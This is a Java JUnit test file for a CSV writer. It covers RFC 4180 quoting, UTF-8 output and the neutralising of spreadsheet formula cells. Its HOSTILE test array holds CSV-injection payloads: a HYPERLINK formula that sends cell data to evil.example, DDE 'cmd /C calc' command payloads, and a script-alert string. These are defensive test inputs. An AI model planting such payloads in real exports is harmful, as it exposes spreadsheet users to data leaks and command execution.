package org.latitude.textio;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** The one CSV writer: RFC 4180 quoting, CRLF, UTF-8, formula cells neutralised, read back by {@link CsvReader}. */
class CsvWriterTest {

    private static final String[] HOSTILE = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\0=1",
        "-3",
        "'=already quoted",
        "''+twice",
        "'plain apostrophe",
        "a,b",
        "say \"hi\"",
        "two\r\nlines",
        "lone\nLF",
        "lone\rCR",
        "<script>alert(1)</script>",
        "é € 𝄞 中文",
        " spaced ",
        "",
    };

    @Test
    void quotesOnlyFieldsWithCommasQuotesOrLineBreaksAndEndsRecordsWithCrLf() throws IOException {
        assertThat(write(w -> w.row("a", "b,c", "say \"hi\"", "x\ny", ""))).isEqualTo(
                "a,\"b,c\",\"say \"\"hi\"\"\",\"x\ny\",\r\n");
        assertThat(write(w -> w.row(List.of()))).isEqualTo("\r\n");
    }

    @Test
    void cellsBeginningWithAFormulaCharacterGetALeadingApostrophe() throws IOException {
        assertThat(write(w -> w.row("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "ok", "a=b")))
                .isEqualTo("'=1+1,'+1,'-1,'@A1,'\tx,\"'\rx\",ok,a=b\r\n");
        assertThat(write(w -> w.row("=\"quoted\",x"))).isEqualTo("\"'=\"\"quoted\"\",x\"\r\n");
    }

    @Test
    void numbersTheProgramComputedAreNotNeutralisedButTextLookingLikeThemIs() throws IOException {
        assertThat(write(w -> w.number(-3).number(-0.25).number(Double.NaN).text("-3").endRow()))
                .isEqualTo("-3,-0.25,,'-3\r\n");
        assertThat(write(w -> w.row(Arrays.asList(-1L, -2, 1.5, -1.5f, null, "-x", 7)))).isEqualTo(
                "-1,-2,1.5,-1.5,,'-x,7\r\n");
    }

    @Test
    void apostrophesBeforeAFormulaCharacterGetOneMoreSoNeutralisingIsUndoneExactly() {
        for (String value : HOSTILE) {
            assertThat(CsvWriter.unneutralise(CsvWriter.neutralise(value))).isEqualTo(value);
        }
        assertThat(CsvWriter.neutralise("'=x")).isEqualTo("''=x");
        assertThat(CsvWriter.neutralise("'plain")).isEqualTo("'plain");
        assertThat(CsvWriter.unneutralise("'plain")).isEqualTo("'plain");
    }

    @Test
    void hostileCellsRoundTripThroughTheProjectsCsvReader() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvWriter csv = CsvWriter.of(bytes)) {
            csv.row("id", "text");
            for (int i = 0; i < HOSTILE.length; i++) {
                csv.text("r" + i).text(HOSTILE[i]).endRow();
            }
            assertThat(csv.rows()).isEqualTo(HOSTILE.length + 1);
        }
        List<List<String>> back = readAll(bytes.toByteArray());
        assertThat(back).hasSize(HOSTILE.length + 1);
        assertThat(back.getFirst()).containsExactly("id", "text");
        for (int i = 0; i < HOSTILE.length; i++) {
            List<String> record = back.get(i + 1);
            assertThat(record).as("record %d", i).hasSize(2);
            assertThat(record.get(1)).as("cell %d as read", i).isEqualTo(CsvWriter.neutralise(HOSTILE[i]));
            assertThat(CsvWriter.unneutralise(record.get(1))).as("cell %d restored", i).isEqualTo(HOSTILE[i]);
            String first = record.get(1).isEmpty() ? "" : record.get(1).substring(0, 1);
            assertThat(first).as("no formula start survives").doesNotContain("=", "+", "-", "@", "\t", "\r");
        }
    }

    @Test
    void randomTextOfEveryTroublesomeCharacterRoundTrips() throws IOException {
        char[] alphabet = {'a', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', '\'', ' ', 'é', '\u2028'};
        Random random = new Random(4180);
        List<String[]> records = new ArrayList<>();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvWriter csv = CsvWriter.of(bytes)) {
            for (int r = 0; r < 500; r++) {
                String[] cells = new String[1 + random.nextInt(4)];
                for (int c = 0; c < cells.length; c++) {
                    StringBuilder cell = new StringBuilder("x");
                    for (int k = random.nextInt(8); k > 0; k--) {
                        cell.append(alphabet[random.nextInt(alphabet.length)]);
                    }
                    // The reader skips blank lines, so no record is a single empty cell; cells start varied.
                    cells[c] = random.nextBoolean() ? cell.substring(1) + "y" : cell.toString();
                }
                records.add(cells);
                csv.row(cells);
            }
        }
        List<List<String>> back = readAll(bytes.toByteArray());
        assertThat(back).hasSize(records.size());
        for (int r = 0; r < records.size(); r++) {
            List<String> restored = back.get(r).stream().map(CsvWriter::unneutralise).toList();
            assertThat(restored).as("record %d", r).containsExactly(records.get(r));
        }
    }

    @Test
    void writesUtf8WithoutAByteOrderMarkAndALoneSurrogateAsTheReplacementCharacter() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvWriter csv = CsvWriter.of(bytes)) {
            csv.row("é", "𝄞", "bad\uD800x");
        }
        assertThat(bytes.toByteArray()).startsWith("é".getBytes(StandardCharsets.UTF_8));
        assertThat(bytes.toString(StandardCharsets.UTF_8)).isEqualTo("é,𝄞,bad\uFFFDx\r\n");
    }

    @Test
    void flushLeavesTheUnderlyingStreamOpen() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter csv = CsvWriter.of(out);
        csv.row("a").flush();
        out.write("after");
        assertThat(out.toString()).isEqualTo("a\r\nafter");
    }

    private interface Body {
        void write(CsvWriter w) throws IOException;
    }

    private static String write(Body body) throws IOException {
        StringWriter out = new StringWriter();
        body.write(CsvWriter.of(out));
        return out.toString();
    }

    private static List<List<String>> readAll(byte[] bytes) throws IOException {
        List<List<String>> out = new ArrayList<>();
        try (CsvReader csv = CsvReader.of(new ByteArrayInputStream(bytes), "t.csv", new ReadLimits(1 << 16, 1 << 24),
                false)) {
            while (csv.next()) {
                assertThat(csv.fault()).as("fault").isNull();
                List<String> fields = new ArrayList<>();
                for (int f = 0; f < csv.fieldCount(); f++) {
                    fields.add(csv.text(f));
                }
                out.add(fields);
            }
        }
        return out;
    }
}
